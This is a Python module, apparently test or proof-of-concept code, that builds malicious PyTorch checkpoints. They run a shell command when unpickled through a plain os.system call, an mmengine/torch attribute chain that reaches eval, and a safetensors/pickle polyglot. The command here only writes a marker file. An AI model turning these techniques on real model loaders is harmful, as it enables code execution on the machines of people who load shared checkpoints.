"""Makes checkpoints that run a command when they are unpickled carelessly; here the command only writes a file."""

import os
import pickle
import zipfile

import torch


class Call:
    """Pickled as a call, with what is put into its result afterwards."""

    def __init__(self, function, *args, state=None, items=()):
        self.reduced = (function, args, state, None, iter(dict(items).items()) if items else None)

    def __reduce__(self):
        return self.reduced


def mark(marker):
    """A shell command that leaves a trace."""
    return f'echo ran > {marker}'


def plain(path, marker, weights):
    """The simplest one: calls ``os.system``."""
    torch.save(dict(weights, meta=dict(epoch=1, iter=1, author=Call(os.system, mark(marker)))), path)


def attribute_chain(path, marker, weights):
    """Names nothing but what torch and mmengine allow, and gets to ``eval`` through ``getattr``.

    A HistoryBuffer takes any attribute from the file. One that has Python's builtins as ``cache`` takes the place of
    ``_get_layout`` in its own module, so that the function looks names up there; others take the place of ``torch`` in
    another module, so that rebuilding a parameter calls what was found. The code puts everything back.
    """
    from mmengine.logging.history_buffer import HistoryBuffer

    lookup, rebuild = torch.serialization._get_layout, torch._utils._rebuild_parameter
    code = (
        f'[__import__("os").system({mark(marker)!r}), '
        f'__import__("sys").modules["torch._utils"].__dict__.update(torch=__import__("torch")), '
        f'type("", (), {{}})()][2]'
    )
    builtins = Call(getattr, lookup, '__builtins__')
    table = Call(HistoryBuffer, state=dict(cache=builtins))
    found = Call(lookup, 'eval')
    module = Call(HistoryBuffer, state=dict(nn=Call(HistoryBuffer, state=dict(Parameter=found))))
    steps = [
        table,
        Call(getattr, lookup, '__globals__', items=dict(_get_layout=table)),
        found,
        Call(getattr, lookup, '__globals__', items=dict(_get_layout=lookup)),
        Call(getattr, rebuild, '__globals__', items=dict(torch=module)),
        Call(rebuild, code, {}, None),
    ]
    torch.save(dict(weights, meta=dict(epoch=1, iter=1, steps=steps)), path)


def two_formats(path, marker, weights):
    """A valid .safetensors file with one tensor that is a pickle too.

    The length that the format begins with reads as the opcode of a string, which swallows the start of the header; a
    line of text swallows the rest of it up to a line break between two tokens; the tensor's bytes are the pickle.
    """
    payload = pickle.dumps(Call(os.system, mark(marker)), 2)[2:]
    start = f'{{"w": {{"dtype": "U8", "shape": [{len(payload)}], "data_offsets": [0, {len(payload)}]}}, '
    start += '"__metadata__": {"note": "'
    swallowed = len(start) + 3  # three bytes of the length follow those of the opcode
    length = ord('T') + 256 * swallowed
    header = f'{start}V'.ljust(length - 4, '.') + '"\n}}'
    with open(path, 'wb') as file:
        file.write(length.to_bytes(8, 'little') + header.encode() + payload)


KINDS = dict(plain=plain, attribute_chain=attribute_chain, two_formats=two_formats)


def rewrite(source, target, change, compression=zipfile.ZIP_STORED):
    """Copies a checkpoint; ``change(name, content)`` gives the new content of each of its parts."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w', compression) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
